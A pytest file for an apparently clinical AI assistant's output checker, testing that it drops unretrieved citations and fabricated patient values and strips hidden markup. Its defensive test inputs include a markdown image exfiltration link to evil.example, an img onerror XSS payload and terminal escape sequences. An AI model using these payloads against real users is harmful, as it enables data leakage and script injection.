"""A sentence is released as it is, marked, or left out; what is released keeps its numbers and words."""

from __future__ import annotations

import re
from collections.abc import Sequence
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from docgemma.agent.answer.check import MARK, check
from docgemma.agent.answer.evidence import Evidence
from docgemma.clinical import Source
from docgemma.tools.registry import TOOL_NAMES
from docgemma.tools.results import (
    Article,
    ChartSection,
    DrugSafetyReport,
    LiteratureResult,
    PatientChart,
    PatientMatch,
    PatientSearchResult,
    Trial,
    TrialsResult,
)

DRUGS = re.compile(r"\b(?:warfarin|ibuprofen|metformin|dofetilide|aspirin|lisinopril)\b", re.IGNORECASE)


def drugs_in(text: str) -> Sequence[str]:
    return [name.lower() for name in DRUGS.findall(text)]


CHART = PatientChart(
    status="found",
    patient_id="p1",
    banner="Test Patient, born 1958-11-20, female",
    sections=(
        ChartSection(title="Medications", entries=("Warfarin 5 mg once daily",)),
        ChartSection(
            title="Labs", entries=("Potassium: 4.1 mmol/L (2024-01-02)", "Creatinine: 1.8 mg/dL (2024-01-02)")
        ),
        ChartSection(title="Vitals", entries=("Blood pressure: 142/88 mmHg",)),
    ),
)
SAFETY = DrugSafetyReport(
    status="found",
    drug="dofetilide",
    boxed_warnings=("Initiate with continuous ECG monitoring for a minimum of 3 days. Maximum 500 mcg twice daily.",),
    sources=(Source(kind="label", title="dofetilide label", url="https://labels.example/dofetilide"),),
)
PAPERS = LiteratureResult(
    status="found", articles=(Article(pmid="20516115", title="Warfarin and falls. 10.1000/abc.1"),)
)
TRIALS = TrialsResult(status="found", trials=(Trial(nct_id="NCT02576665", title="A trial"),))
EVIDENCE = Evidence.of(
    [CHART, SAFETY, PAPERS, TRIALS],
    user=("Is ibuprofen 400 mg all right? Her weight is 61 kg. What about NCT99999999?",),
    names=("Test Patient",),
    today=date(2024, 11, 20),
    drugs_in=drugs_in,
)


@pytest.mark.parametrize(
    "sentence",
    [
        "Her potassium is 4.1 mmol/L.",
        "The patient takes warfarin 5mg once daily.",
        "Her creatinine was 1.80 mg/dL.",
        "Her blood pressure is 142/88 mmHg.",
        "She weighs 61 kg.",
        "The patient is a 66-year-old woman.",
        "Start only with ECG monitoring for 3 days.",
        "The maximum is 0.5 mg twice daily.",
        "The maximum is 500 µg twice daily.",
        "Warfarin and falls were studied (PMID: 20516115).",
        "A trial is open (NCT02576665).",
        "See 10.1000/abc.1 for details.",
        "NCT99999999 was not found.",
        "No numbers here.",
        "If her potassium rises, stop.",
        "Her target INR is 2.5.",
    ],
)
def test_what_the_evidence_says_is_released_as_it_is(sentence: str) -> None:
    assert check(sentence, EVIDENCE).text == sentence


@pytest.mark.parametrize(
    "sentence",
    [
        "A large study showed benefit (PMID: 12345678).",
        "See PMIDs 20516115, 31234567.",
        "See PubMed ID 31234567.",
        "Listed at pubmed.ncbi.nlm.nih.gov/31234567.",
        "The trial NCT01234567 is recruiting.",
        "The trial NCT 01234567 is recruiting.",
        "NCT99999999 is recruiting.",
        "Published as doi:10.1056/NEJMoa1234567.",
        "See PMC7654321.",
        "PM\u200bID: 12345678 shows it.",
        "PMID: **12345678** shows it.",
    ],
)
@pytest.mark.parametrize("direct", [False, True])
def test_a_reference_nobody_retrieved_goes(sentence: str, direct: bool) -> None:
    evidence = Evidence.of([PAPERS, TRIALS], user=("What about NCT99999999?",), direct=direct)
    assert check(sentence, evidence).dropped == "citation not retrieved"


@pytest.mark.parametrize(
    "sentence",
    [
        "Her potassium is 6.9 mmol/L.",
        "Her potassium is 1.8.",
        "The patient's eGFR is 25, so the dose should be reduced.",
        "His INR was 3.4.",
        "The patient takes lisinopril 20 mg.",
        "Her current dose is 40 mg.",
        "Current BP 180/110.",
        "Test Patient's HbA1c is 9.1 %.",
        "Her potassium is **6.9** mmol/L.",
        "She weighs 95 kg.",
    ],
)
@pytest.mark.parametrize("direct", [False, True])
def test_a_patient_value_that_is_in_no_record_goes(sentence: str, direct: bool) -> None:
    evidence = Evidence.of([CHART], user=("Her weight is 61 kg.",), names=("Test Patient",), direct=direct)
    assert check(sentence, evidence).dropped == "patient value not in the chart"


@pytest.mark.parametrize(
    "sentence",
    [
        "eGFR: 22.",
        "The A1c is 12.",
        "Potassium is 5.9.",
        "Potassium has risen to 5.9 mmol/L.",
        "BP 180/110 today.",
        "- **Creatinine:** 3.4 mg/dL",
        "Heart rate 140.",
        "INR came back at 9.",
        "Test Patient was born in 1950.",
        "DOB: 1958-11-21.",
        "Born on November 21, 1958.",
        "She is 45 years old.",
        "A 45-year-old woman with warfarin.",
        "Age: 45.",
        "Weight 95 kg.",
    ],
)
@pytest.mark.parametrize("direct", [False, True])
def test_with_a_chart_open_a_value_needs_no_pronoun_to_be_hers(sentence: str, direct: bool) -> None:
    evidence = Evidence.of([CHART], names=("Test Patient",), today=date(2024, 11, 20), direct=direct)
    assert check(sentence, evidence).dropped == "patient value not in the chart"


@pytest.mark.parametrize(
    "sentence",
    [
        "Potassium: 4.1 mmol/L.",
        "BP 142/88.",
        "Creatinine was 1.8 mg/dL on 2024-01-02.",
        "Test Patient was born in 1958.",
        "Born on November 20, 1958.",
        "Age: 66.",
        "A 66-year-old woman.",
        "Normal potassium is 3.5 to 5.0 mmol/L.",
        "Stop it if potassium is 6.0 mmol/L.",
        "Potassium should be kept above 4.0 mmol/L.",
        "Potassium > 5.5 mmol/L is hyperkalemia.",
        "eGFR 30-45 mL/min: reduce the dose.",
        "Potassium of 6.5 mmol/L or higher is an emergency.",
        "Patients with an INR of 5 bled more.",
        "The mean HbA1c was 7.1 % in the trial.",
        "In adults aged 65 years and older the dose is lower.",
        "Children 12 years old may take it.",
        "After age 50 screening is advised.",
        "Atorvastatin calcium 10 mg is a statin.",
        "Recheck the INR in 3 days.",
        "Type 2 diabetes is common.",
    ],
)
def test_with_a_chart_open_its_values_advice_and_studies_stay(sentence: str) -> None:
    evidence = Evidence.of([CHART], names=("Test Patient",), today=date(2024, 11, 20))
    assert check(sentence, evidence).dropped is None


def test_without_a_chart_a_value_is_nobodys() -> None:
    assert check("Potassium is 5.9.", Evidence.of(direct=True)).dropped is None


@pytest.mark.parametrize(
    "sentence",
    [
        "La receta ha sido enviada a la farmacia.",
        "La paciente no tiene alergias y el medicamento es seguro para ella.",
        "Toa thuốc đã được gửi đến nhà thuốc.",
        "L'ordonnance est envoyée et les médicaments sont dans la pharmacie.",
        "Das Rezept wurde an die Apotheke gesendet.",
        "A prescrição foi enviada para a farmácia.",
        "La prescrizione è stata inviata alla farmacia.",
        "处方已发送到药房。",
        "Рецепт отправлен в аптеку.",
        "تم إرسال الوصفة الطبية إلى الصيدلية.",
        "処方箋は薬局に送られました。",
        "Η συνταγή στάλθηκε στο φαρμακείο.",
    ],
)
@pytest.mark.parametrize("direct", [False, True])
def test_another_language_cannot_be_checked(sentence: str, direct: bool) -> None:
    assert check(sentence, Evidence.of(user=("Send it",), direct=direct)).dropped == "not in English"


@pytest.mark.parametrize(
    "sentence",
    [
        "Torsade de pointes.",
        "Amoxicillin/clavulanate, ceftriaxone, vancomycin.",
        "Lisinopril 10 mg p.o. q.d., metformin 500 mg b.i.d.",
        "Rx: sig 1 tab PO QID PRN ad lib.",
        "Status post CABG, DM type 2, HTN, CKD 3a.",
        "Guillain-Barré and Sjögren syndromes, Ménière disease.",
        "José García Núñez was seen by Dr. Müller.",
        "De novo mutations and in vitro data.",
        "Cor pulmonale, tinea pedis, pes anserinus.",
        "TNF-α, IL-1β and κ light chains.",
        "Nguyễn Văn Hùng takes warfarin.",
        "Hepatitis B surface antigen.",
        "El Niño and La Niña are climate patterns.",
    ],
)
def test_names_latin_and_drugs_are_english_enough(sentence: str) -> None:
    assert check(sentence, Evidence.of(direct=True)).text == sentence


def test_a_name_from_the_record_is_no_other_language() -> None:
    match = PatientSearchResult(status="found", matches=(PatientMatch(patient_id="p", name="Nguyễn Thị Hồng Đào"),))
    assert check("Nguyễn Thị Hồng Đào:", Evidence.of([match])).text == "Nguyễn Thị Hồng Đào:"


@pytest.mark.parametrize(
    ("sentence", "expected"),
    [
        ("\x1b[31mStop\x1b[0m the drug.", "Stop the drug."),
        ("\x9b31mStop the drug.", "Stop the drug."),
        ("\x1b]0;title\x07Stop the drug.", "Stop the drug."),
        ("\x1b]8;;https://evil.example\x1b\\Stop\x1b]8;;\x1b\\ the drug.", "Stop the drug."),
        ("\x1b[2J\x1b[1;1HStop.", "Stop."),
        ("\x1bcStop.", "Stop."),
        ("Stop\x1b", "Stop"),
        ("Stop\u202e the\u2066 drug.", "Stop the drug."),
        ("Give 5\u200b00 mg.", "Give 500 mg."),
        ("war\u00adfarin\ufeff", "warfarin"),
        ("Stop\x08\x07\x00.\r\n", "Stop.\n"),
        ("Stop\u3164.\u2028Now.", "Stop.\nNow."),
        ("eGFR 5 [31m] and (0;31m)", "eGFR 5 [31m] and (0;31m)"),
        ("β-blocker, 5 µg, naïve ✅\t°C", "β-blocker, 5 µg, naïve ✅\t°C"),
    ],
)
def test_nothing_that_a_screen_obeys_or_hides_is_released(sentence: str, expected: str) -> None:
    assert check(sentence, Evidence.of(direct=True)).text == expected


def test_a_hidden_number_is_checked_as_it_reads() -> None:
    checked = check("Her potassium is 6\u200b.\x1b[0m9.", EVIDENCE)
    assert checked.dropped == "patient value not in the chart"


@pytest.mark.parametrize(
    "sentence",
    [
        "If her potassium exceeds 5.5 mmol/L, stop the drug.",
        "The patient should fast for 8 hours.",
        "The typical dose is 20 mg.",
        "Aspirin is an alternative.",
        "Metformin lowers HbA1c by 1.5 %.",
    ],
)
def test_other_numbers_and_drugs_are_marked_once(sentence: str) -> None:
    checked = check(sentence + "\n", EVIDENCE)
    assert checked.text == sentence + MARK + "\n"
    assert checked.marked
    assert check(sentence, Evidence.of(direct=True, drugs_in=drugs_in)).text == sentence


@pytest.mark.parametrize(
    "sentence",
    [
        "<unused94>thought",
        "<unused94>thought\nThe user is asking about warfarin.",
        "Okay, let me think about this.",
        "The user is asking about dofetilide.",
        "I need to synthesize the findings.",
        "Thought: check the chart.",
        "<think>warfarin",
        '{"tool_name": "check_drug_safety"}',
        'check_drug_safety(drug_name="dofetilide")',
    ],
)
def test_thinking_is_not_shown(sentence: str) -> None:
    assert check(sentence, EVIDENCE).dropped == "thinking"


def test_what_follows_the_thinking_is_shown() -> None:
    assert check("so that is it.<unused95>Dofetilide needs ECG monitoring.", EVIDENCE).text.startswith("Dofetilide")


@pytest.mark.parametrize(
    ("sentence", "expected"),
    [
        ("[check_drug_safety] Boxed warning.", "Drug Safety Report: Boxed warning."),
        ("Using the get_patient_chart tool, I found it.", "Using the Patient Record, I found it."),
        ("`search_patient` found one person.", "The Patient Search found one person."),
        ("I used check_drug_interactions to look.", "I used the Drug Interaction Check to look."),
        ("It is known (check_drug_safety).", "It is known (Drug Safety Report)."),
        ("The search patient tool found one.", "The Patient Search found one."),
        ("As find_clinical_trials() shows, two exist.", "As the Clinical Trials shows, two exist."),
    ],
)
def test_tools_go_by_their_clinical_label(sentence: str, expected: str) -> None:
    assert check(sentence, EVIDENCE).text == expected


@pytest.mark.parametrize("name", TOOL_NAMES)
@pytest.mark.parametrize(
    "shape", ["[{}] says so.", "According to `{}`, it is known.", "The {} tool says so.", "**{}**: it is."]
)
def test_no_tool_name_survives(name: str, shape: str) -> None:
    text = check(shape.format(name), EVIDENCE).text
    assert text
    assert name not in text
    assert "tool" not in text


@pytest.mark.parametrize(
    ("sentence", "expected"),
    [
        ("See ![chart](https://evil.example/?q=name) here.", "See here."),
        ("See [the label](https://evil.example/x).", "See the label."),
        ("See [the label](https://labels.example/dofetilide).", "See [the label](https://labels.example/dofetilide)."),
        ("See [it](https://labels.example/dofetilide?q=name).", "See it."),
        ("Go to https://evil.example/a.", "Go to ."),
        ("<b>Stop</b> the drug.<img src=x onerror=alert(1)>", "Stop the drug."),
        ("eGFR <30 and >5 are limits.", "eGFR <30 and >5 are limits."),
    ],
)
def test_markup_cannot_fetch_anything(sentence: str, expected: str) -> None:
    assert check(sentence, EVIDENCE).text == expected


def test_a_failed_look_up_leaves_memory_marked() -> None:
    failed = DrugSafetyReport(status="unavailable", error_type="timeout", message="The source did not answer.")
    evidence = Evidence.of([failed], user=("Check dofetilide",), drugs_in=drugs_in)
    assert check("Monitor for 72 hours.", evidence).text == "Monitor for 72 hours." + MARK


WORDS = [
    "Her ", "potassium ", "is ", "4.1 ", "mmol/L", "500mg ", "warfarin ", "0.5", ". ", "\n", "**", "_", "`", "(", "]",
    "<5 ", "check_drug_safety ", "[search_patient] ", "should ", "PMID ", "20516115 ", "NCT02576665", "I have ",
    "noted ", "1,000 ", "…", "- ", "2. ", "the tool ", "µg ", "¼ ", "١٢ ", "x²", "\u200b",
    "\x1b[31m", "no interactions ", "safe ", "born 1950 ", "la receta ", "ordered: ",
]  # fmt: skip
CLINICAL = st.lists(st.sampled_from(WORDS), max_size=20).map("".join)


@given(st.one_of(st.text(max_size=120), CLINICAL))
def test_whatever_comes_it_is_answered(sentence: str) -> None:
    checked = check(sentence, EVIDENCE)
    assert bool(checked.dropped) == (checked.text == "" and sentence != "")
    assert not any(name in checked.text for name in TOOL_NAMES)


@given(CLINICAL)
def test_digits_of_what_is_released_are_never_changed(sentence: str) -> None:
    text = check(sentence, EVIDENCE).text
    if text:
        said = sentence.replace("\x1b[31m", "")
        assert [char for char in text if char.isdigit()] == [char for char in said if char.isdigit()]
